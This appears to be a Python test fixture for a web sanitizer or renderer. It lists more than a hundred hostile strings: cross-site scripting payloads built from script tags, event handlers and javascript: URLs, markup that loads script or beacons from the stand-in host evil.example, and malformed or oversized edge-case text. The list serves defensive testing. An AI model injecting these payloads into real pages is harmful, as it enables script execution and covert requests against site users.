"""Texts that a page must never run, request or be broken by: more than a hundred."""

from __future__ import annotations

_ATTACK = "document.title='owned'"
_RUNS = (
    f"<script>{_ATTACK}</script>", f"</script><script>{_ATTACK}</script>", f"</ScRiPt ><sCrIpT>{_ATTACK}//",
    f"<img src=x onerror={_ATTACK}>", f"<svg onload={_ATTACK}>", f"<svg><script>{_ATTACK}</script></svg>",
    f"<body onload={_ATTACK}>", f"<details open ontoggle={_ATTACK}>", f"<input autofocus onfocus={_ATTACK}>",
    f"<video><source onerror={_ATTACK}>", f"<iframe srcdoc='<script>top.{_ATTACK}</script>'>",
    f"<a href='javascript:{_ATTACK}'>link</a>", f"javascript:{_ATTACK}", f"<math><mtext><script>{_ATTACK}</script>",
    f"<style>@import 'http://evil.example/x.css';</style><script>{_ATTACK}</script>",
    f"<!--><script>{_ATTACK}</script>-->",
    f"]]><script>{_ATTACK}</script>", f"<template><script>{_ATTACK}</script></template>",
    f"<marquee onstart={_ATTACK}>",
    f"<noscript><p title='</noscript><img src=x onerror={_ATTACK}>'>",
    f"<object data='data:text/html,<script>{_ATTACK}</script>'>",
)  # fmt: skip
_REQUESTS = (
    "<img src='http://evil.example/pixel.png'>", "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=prefetch href='http://evil.example/'>", "<iframe src='http://evil.example/'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href='http://evil.example/'>",
    "<script src='http://evil.example/x.js'></script>", "<audio src='http://evil.example/a.mp3' autoplay>",
    "<form action='http://evil.example/'><input name=q></form>", "![x](http://evil.example/pixel.png)",
    "<embed src='http://evil.example/'>", "<style>body{background:url(http://evil.example/b.png)}</style>",
)  # fmt: skip
_BREAKS = (
    "\u2028\u2029", "\x00\x01\x1b[31m", "\ud800", "\udfff\ud800", "\u202egnirts desrever",
    "{{DATA}}{{SCRIPT}}{{STYLE}}",
    "<!--", "-->", "<![CDATA[", "</style>", "</title>", "</textarea>", "</body></html>",
    "&lt;b&gt;&amp;&#x3c;", "\\u003cscript>",
    "${alert(1)}", "`", "'\"", "\\", "__proto__", "constructor", "NaN", "null", "\r\n\r\n", "\t" * 20, "", " ",
    "x" * 3_000, "字" * 300, "👩‍👩‍👧‍👦" * 40, "e" + "\u0301" * 200, "%s%n", "#n/0.1@3", "\ufeff", "%00", "\x7f",
)  # fmt: skip

HOSTILE_TEXTS: tuple[str, ...] = (
    *_RUNS, *_REQUESTS, *_BREAKS,
    *(f'"{text}' for text in _RUNS), *(f"'>{text}" for text in _REQUESTS),
    *(f"2 + 2 = 4 {text}\n" for text in _BREAKS[:12]),
)  # fmt: skip
assert len(set(HOSTILE_TEXTS)) >= 100
